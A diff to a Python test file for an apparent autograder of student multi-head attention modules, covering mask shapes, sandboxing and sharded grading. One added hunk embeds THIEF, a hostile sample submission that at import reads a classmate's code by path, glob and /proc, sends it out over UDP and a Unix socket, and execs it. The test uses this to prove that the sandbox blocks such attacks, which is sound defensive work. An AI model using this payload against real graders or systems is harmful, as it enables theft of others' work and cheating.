@@ -200,7 +200,8 @@ def test_a_module_reading_another_mask_shape_is_given_it_or_told_the_call_that_f
         rep = multihead.check(cls(), call="qkv_mask", mask="keep")
         assert rep.ok and rep.check("matches the float64 reference").passed, str(rep)
         ran = rep.check("runs on probe inputs")
-        assert ran.detail == f"the mask given as {shape} bool: it raised on (B, 1, Lq, Lk) bool", ran.detail
+        assert ran.detail.startswith(f"the mask given as {shape} bool: under (B, 1, Lq, Lk) bool it raised "), \
+            ran.detail
     rep = multihead.check(KeyColumn(), call="qkv_mask", mask="keep")
     ran = rep.check("runs on probe inputs")
     assert not rep.ok and ran.passed is False, str(rep)
@@ -210,6 +211,62 @@ def test_a_module_reading_another_mask_shape_is_given_it_or_told_the_call_that_f
     assert rep.ok and rep.check("matches the float64 reference").passed, str(rep)
     rep = multihead.check(ThreeDMask(), call=lambda m, q, k, v, mask: m(q, k, v, mask[:, 0]), mask="keep")
     assert rep.ok and rep.check("matches the float64 reference").passed, str(rep)
+
+
+BROADCASTS = """
+import torch
+from torch import nn
+
+
+class Broadcasts(nn.Module):
+    # a correct module for a (B, Lq, Lk) bool mask that merges heads with flatten(-2): given (B, 1, Lq, Lk) it
+    # raises nowhere, the mask broadcasts to (B, B, H, Lq, Lk) and the output to (B, B, Lq, E)
+    def __init__(self, key_padding=False, ignore=False):
+        super().__init__()
+        self.key_padding, self.ignore = key_padding, ignore
+        self.q, self.k, self.v, self.o = (nn.Linear(24, 24) for _ in range(4))
+
+    def forward(self, q, k, v, mask):
+        B, Lq, _ = q.shape
+        Q, K, V = (f(t).unflatten(-1, (3, 8)).transpose(-3, -2) for f, t in ((self.q, q), (self.k, k), (self.v, v)))
+        m = mask[:, None, None, :] if self.key_padding else mask[:, None]  # (B, 1, 1, Lk) or (B, 1, Lq, Lk)
+        s = Q @ K.transpose(-1, -2) / 8 ** 0.5  # (B, H, Lq, Lk)
+        s = s if self.ignore else torch.where(m, s, float("-inf"))
+        return self.o((s.softmax(-1) @ V).transpose(-3, -2).flatten(-2))
+
+
+class KeyPaddingBroadcasts(Broadcasts):
+    def __init__(self):
+        super().__init__(key_padding=True)
+
+
+class IgnoresItsMask(Broadcasts):
+    def __init__(self):
+        super().__init__(ignore=True)
+"""
+
+
+def test_a_mask_form_that_broadcasts_without_raising_is_retried(tmp_path, capsys):
+    """The other mask forms were tried only when a module raised: a correct module for (B, Lq, Lk) or (B, Lk) masks
+    given (B, 1, Lq, Lk) broadcast to an output of shape (B, B, Lq, E) and was NOT OK ('output shape'). Any failure
+    a form can cause (another shape, NaN or inf, masked keys with influence) now tries the others; the report says
+    the form used and what the others gave; a module that ignores its mask is still caught."""
+    ns: dict = {}
+    exec(BROADCASTS, ns)
+    torch.manual_seed(0)
+    for cls, form in ((ns["Broadcasts"], "(B, Lq, Lk) bool"), (ns["KeyPaddingBroadcasts"], "(B, Lk) bool")):
+        rep = multihead.check(cls(), call="qkv_mask", mask="keep")
+        assert rep.ok and rep.check("matches the float64 reference").passed, str(rep)
+        ran = rep.check("runs on probe inputs").detail
+        assert re.match(rf"the mask given as {re.escape(form)}: under \(B, 1, Lq, Lk\) bool it gave an output of "
+                        rf"shape \(3, (1, )?3, 5, 24\)", ran), ran
+    rep = multihead.check(ns["IgnoresItsMask"](), call="qkv_mask", mask="keep")
+    assert not rep.ok and rep.check("masked keys have no influence").passed is False, str(rep)
+    f = tmp_path / "broadcasts.py"
+    f.write_text(BROADCASTS)
+    code = main(["check", f"{f}:Broadcasts", "--call", "qkv_mask", "--mask", "keep"])  # sandboxed
+    out = capsys.readouterr().out
+    assert code == 0 and "the mask given as (B, Lq, Lk) bool: under (B, 1, Lq, Lk) bool it gave an output" in out, out
 
 
 def test_cross_attention_with_its_own_key_and_value_sizes_is_graded_on_them(tmp_path, capsys):
@@ -327,7 +384,7 @@ def test_a_mask_convention_is_given_in_the_dtype_the_module_takes(tmp_path, caps
         code = main(["check", f"{f}:{name}", "--call", "qkv_mask", "--mask", conv])
         out = capsys.readouterr().out
         assert code == 0 and re.search(r"matches the float64 reference\s+pass", out), out
-    assert "the mask given as (B, Lk) bool: it raised on (B, 1, Lq, Lk) 1/0 floats" in out, out
+    assert "the mask given as (B, Lk) bool: under (B, 1, Lq, Lk) 1/0 floats it raised" in out, out
 
 
 def test_the_courses_decoder_self_attention_is_graded_causal_through_lengths_per_query_row(tmp_path, capsys):
@@ -768,13 +825,130 @@ def test_a_submission_writes_only_in_its_own_scratch_folder(tmp_path):
         return {Path(r["file"]).stem: r for r in classroom.grade_many(classroom.targets([str(subs)], "MHA"),
                                                                        call="qkv", timeout=30, jobs=1, seed=3)}
 
-    if not confine.abi():
-        with pytest.warns(RuntimeWarning, match="this kernel has no Landlock"):
+    if confine.unconfined():
+        with pytest.warns(RuntimeWarning, match="cannot confine a submission's process from"):
             grade()
-        pytest.skip("this kernel has no Landlock: the grader says so (above) and cannot confine writes")
+        pytest.skip(f"this machine cannot confine: {confine.unconfined()} (the grader says so, above)")
     rows = grade()
     assert rows["a_vandal"]["status"] == "ok" and rows["victim"]["status"] == "ok", rows
     assert victim.read_text() == HONEST and not teachers.exists()
+
+
+THIEF = HONEST.replace("scale_by=None", "scale_by=8") + textwrap.dedent('''
+    # at import: find a classmate's MHA every way a process could, and send it out; if one is found, become it
+    import glob, os, pathlib, socket
+    STOLEN = []
+
+    def steal(how, path):
+        try:
+            text = pathlib.Path(path).read_text()
+        except OSError as e:
+            print("refused:", how, path, e)
+            return
+        if "class MHA" in text and "STOLEN" not in text:
+            print("stole via", how)
+            STOLEN.append(text)
+
+    steal("absolute path", CLASSMATE)
+    for p in glob.glob("**/*.py", recursive=True):  # the working directory
+        steal("glob of the working directory", p)
+    for p in glob.glob(f"/proc/{os.getppid()}/cwd/**/*.py", recursive=True):
+        steal("the parent's cwd", p)
+    for cmd in glob.glob("/proc/[0-9]*/cmdline"):  # the grader's command line: its folder argument
+        try:
+            args = pathlib.Path(cmd).read_bytes().decode(errors="replace").split("\\0")
+        except OSError:
+            continue
+        for a in args:
+            if os.path.isdir(a) and a not in ("/", "."):
+                for p in glob.glob(os.path.join(a, "**", "*.py"), recursive=True):
+                    steal("the grader's command line", p)
+    for kind, family, address in (("udp", socket.AF_INET, ("127.0.0.1", UDP_PORT)), ("unix", socket.AF_UNIX, UNIX)):
+        try:
+            s = socket.socket(family, socket.SOCK_DGRAM if kind == "udp" else socket.SOCK_STREAM)
+            if kind == "udp":
+                s.sendto(b"leaked " + (STOLEN or [""])[0][:100].encode(), address)
+            else:
+                s.connect(address)
+                s.sendall(b"leaked")
+            print("sent", kind)
+        except OSError as e:
+            print("refused:", kind, e)
+    if STOLEN:
+        exec(STOLEN[0])  # noqa: S102 - the classmate's MHA replaces this one
+    ''')
+
+
+def test_a_submission_reads_and_reaches_nothing_but_itself(tmp_path):
+    """Reads were open and only TCP was refused: a submission that read a classmate's file (by path, by a glob of
+    its working directory, through /proc) and ran that class was graded OK, and UDP carried the file out. The
+    sandbox is now an allow-list (multihead.grader.confine): the thief is graded on its own code, nothing it sent
+    arrives. The same file run outside the sandbox does steal (the attacks are real)."""
+    import socket
+    import subprocess
+    import sys
+
+    from multihead.grader import confine
+
+    subs = tmp_path / "class"
+    (subs / "alice").mkdir(parents=True)
+    (subs / "mallory").mkdir()
+    alice = subs / "alice" / "mha.py"
+    alice.write_text(HONEST)
+    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    udp.bind(("127.0.0.1", 0))
+    udp.settimeout(0.2)
+    unix_path = str(tmp_path / "listener.sock")
+    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    unix.bind(unix_path)
+    unix.listen(4)
+    unix.settimeout(0.2)
+    thief = subs / "mallory" / "mha.py"
+    thief.write_text(f"CLASSMATE, UDP_PORT, UNIX = {str(alice)!r}, {udp.getsockname()[1]}, {unix_path!r}\n" + THIEF)
+
+    def received() -> list[bytes]:
+        got = []
+        for listener in (udp, unix):
+            try:
+                got.append(listener.recv(4096) if listener is udp else listener.accept()[0].recv(4096))
+            except (TimeoutError, OSError):
+                pass
+        return got
+
+    src = str(Path(__file__).resolve().parents[1] / "src")
+    env = dict(os.environ, PYTHONPATH=src)
+    outside = subprocess.run([sys.executable, str(thief)], cwd=subs, env=env, capture_output=True, text=True,
+                             timeout=120)
+    for how in ("absolute path", "glob of the working directory"):
+        assert f"stole via {how}" in outside.stdout, outside.stdout + outside.stderr
+    assert len(received()) == 2  # outside, the UDP datagram and the Unix connection arrive
+    if confine.unconfined():
+        pytest.skip(f"this machine cannot confine: {confine.unconfined()}")
+    report = tmp_path / "grades.csv"
+    cmd = [str(Path(sys.executable).with_name("multihead")), "check", str(subs), "--name", "MHA", "--call", "qkv", "--seed", "3",
+           "--timeout", "60", "--report", str(report)]
+    run = subprocess.run(cmd, cwd=subs, env=env, capture_output=True, text=True, timeout=300)
+    rows = {Path(r["file"]).resolve().relative_to(subs.resolve()).as_posix(): r for r in csv.DictReader(report.open())}
+    assert rows["alice/mha.py"]["status"] == "ok", (rows, run.stdout, run.stderr)
+    assert rows["mallory/mha.py"]["status"] == "not ok", rows
+    assert rows["mallory/mha.py"]["finding"].startswith("scores divided by d_k"), rows
+    assert received() == []
+    udp.close()
+    unix.close()
+
+
+def test_a_machine_that_cannot_confine_is_told_what_is_not_confined(monkeypatch, tmp_path):
+    """Each missing layer is named (the probe runs the sandbox's own confinement in a throw-away child), and the
+    class's grading warns in one line."""
+    from multihead.grader import confine
+
+    monkeypatch.setattr(confine, "abi", lambda: 0)  # a kernel without Landlock
+    gaps = confine.unconfined.__wrapped__()
+    assert any(g.startswith("files (no Landlock") for g in gaps) and any("other processes" in g for g in gaps), gaps
+    monkeypatch.setattr(confine, "unconfined", lambda: gaps)
+    (tmp_path / "a.py").write_text(HONEST)
+    with pytest.warns(RuntimeWarning, match=r"cannot confine a submission's process from: files \(no Landlock"):
+        classroom.grade_many([(tmp_path / "a.py", "MHA")], call="qkv", timeout=30, jobs=1, seed=1)
 
 
 def test_the_single_file_command_runs_the_submission_in_a_sandbox(tmp_path, capsys):
@@ -839,6 +1013,59 @@ def test_each_learner_gets_their_own_feedback_when_the_files_share_a_name(tmp_pa
     assert "scores divided by d_k" not in (fb / "alice" / "mha.md").read_text()
     names = classroom.feedback_names([subs / "hw.py", subs / "hw.ipynb", subs / "alice" / "mha.py"])
     assert [n.as_posix() for n in names.values()] == ["hw.py.md", "hw.ipynb.md", "alice/mha.md"]
+
+
+def test_a_class_graded_in_shards_and_merged_equals_one_run(tmp_path, capsys):
+    """A course online grades its class on N machines: --shard K/N grades a deterministic slice, --merge joins the
+    slices' reports into one table and one summary, equal to one run's (same seed); bad shards and reports that do
+    not belong together are refused in one line, exit 2."""
+    subs = tmp_path / "class"
+    for i, kind in enumerate(("honest", "wrong", "exits", "honest", "wrong")):
+        (subs / f"learner{i}").mkdir(parents=True)
+        (subs / f"learner{i}" / "mha.py").write_text(ADVERSARIES[kind])
+    base = ["check", str(subs), "--name", "MHA", "--seed", "3", "--timeout", "30"]
+    assert main([*base, "--report", str(tmp_path / "one.csv"), "--summary", str(tmp_path / "one")]) == 1
+    for k in (1, 2, 3):
+        main([*base, "--shard", f"{k}/3", "--report", str(tmp_path / f"shard{k}.json" if k == 2 else
+                                                                tmp_path / f"shard{k}.csv")])
+    shards = [str(tmp_path / n) for n in ("shard1.csv", "shard2.json", "shard3.csv")]
+    graded = [len(classroom.read_report(p)) for p in shards]
+    assert graded == [2, 2, 1], graded  # every third file from the k-th, disjoint, together the class
+    capsys.readouterr()
+    assert main(["check", "--merge", *shards, "--report", str(tmp_path / "all.csv"), "--summary",
+                 str(tmp_path / "all")]) == 1
+    out = capsys.readouterr().out
+    assert "3 of 5 OK" not in out and "2 of 5 OK" in out, out
+    one, merged = classroom.read_report(tmp_path / "one.csv"), classroom.read_report(tmp_path / "all.csv")
+
+    def same(r):
+        return {k: v for k, v in r.items() if k not in ("seconds", "shard")}
+
+    assert [same(r) for r in merged] == [same(r) for r in one]
+    assert {r["shard"] for r in merged} == {"1/3", "2/3", "3/3"} and {r["seed"] for r in merged} == {3}
+    assert (tmp_path / "all" / "summary.md").read_text() == (tmp_path / "one" / "summary.md").read_text()
+
+    (tmp_path / "points.json").write_text(json.dumps({"batch independence": 5}))
+    main([*base, "--shard", "2/3", "--points", str(tmp_path / "points.json"), "--report", str(tmp_path / "p2.csv")])
+    main([*base[:4], "--seed", "4", "--shard", "2/3", "--report", str(tmp_path / "s2.csv")])
+    capsys.readouterr()
+    bad = {("--shard", "3/2"): "K must be between 1 and N (2)", ("--shard", "a/b"): "--shard takes K/N",
+           ("--shard", "0/2"): "K must be between 1 and N"}
+    for extra, said in bad.items():
+        assert main([*base, *extra]) == 2
+        err = capsys.readouterr().err
+        assert said in err and len(err.strip().splitlines()) == 1, err
+    assert main(["check", str(subs), "--name", "MHA", "--shard", "1/2"]) == 2
+    assert "--shard needs --seed" in capsys.readouterr().err
+    merges = {("shard1.csv", "s2.csv", "shard3.csv"): "graded on different seeds",
+              ("shard1.csv", "p2.csv", "shard3.csv"): "graded on different points tables",
+              ("shard1.csv", "shard3.csv"): "slices of 3 and 2 were given",
+              ("shard1.csv", "shard1.csv", "shard3.csv"): "is in more than one report",
+              ("shard1.csv", "missing.csv"): "no such report"}
+    for names, said in merges.items():
+        assert main(["check", "--merge", *(str(tmp_path / n) for n in names)]) == 2
+        err = capsys.readouterr().err
+        assert said in err and len(err.strip().splitlines()) == 1, err
 
 
 def test_the_default_points_cover_every_check_and_a_scheme_refuses_unknown_checks():
